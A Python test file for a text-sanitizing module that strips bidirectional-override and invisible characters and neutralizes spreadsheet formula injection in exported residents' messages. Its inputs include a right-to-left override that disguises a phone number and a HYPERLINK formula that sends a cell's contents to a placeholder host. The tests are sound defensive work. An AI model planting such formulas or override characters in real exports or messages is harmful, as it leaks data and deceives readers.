"""Residents' words made safe for officers' eyes and for spreadsheets (hemu.hygiene)."""

from __future__ import annotations

import unicodedata

from hypothesis import given
from hypothesis import strategies as st

from hemu.hygiene import FORMULA_STARTS, spreadsheet_cell, visible

RLO, LRI, PDI, ZWSP, BOM, ZWJ = "\u202e", "\u2066", "\u2069", "\u200b", "\ufeff", "\u200d"


def test_reordering_and_hiding_characters_are_dropped() -> None:
    # "call 110" with a right-to-left override would show as "011 llac" on the card.
    assert visible(f"call {RLO}110{PDI}") == "call 110"
    assert visible(f"{LRI}138{ZWSP}0000{BOM}1234\u200e\u200f\u061c") == "13800001234"
    assert visible("bell\x07 and\x1b[31m red\x7f\x85") == "bell and[31m red"


def test_line_breaks_tabs_emoji_and_joiners_stay() -> None:
    family = f"👨{ZWJ}👩{ZWJ}👧"
    text = f"第一行\n第二行\tend {family} می\u200cخواهم"
    assert visible(text) == text


@given(st.text())
def test_nothing_that_reorders_or_hides_is_left_and_a_second_pass_changes_nothing(text: str) -> None:
    shown = visible(text)
    for char in shown:
        category = unicodedata.category(char)
        assert category != "Cf" or char in {"\u200c", ZWJ}
        assert category != "Cc" or char in "\n\t"
    assert visible(shown) == shown
    assert len(shown) <= len(text)


def test_formulas_become_text_in_a_spreadsheet() -> None:
    assert spreadsheet_cell('=HYPERLINK("http://x/?"&A1,"click")') == '\'=HYPERLINK("http://x/?"&A1,"click")'
    assert spreadsheet_cell("+86 138 0000 1234") == "'+86 138 0000 1234"
    assert spreadsheet_cell("-1+1") == "'-1+1"
    assert spreadsheet_cell("@SUM(A1)") == "'@SUM(A1)"
    assert spreadsheet_cell("\t=1") == "'\t=1"
    assert spreadsheet_cell("楼上=吵") == "楼上=吵"
    assert spreadsheet_cell("HM-2026-000001") == "HM-2026-000001"


@given(st.text())
def test_no_exported_cell_starts_a_formula(text: str) -> None:
    cell = spreadsheet_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell.endswith(text)
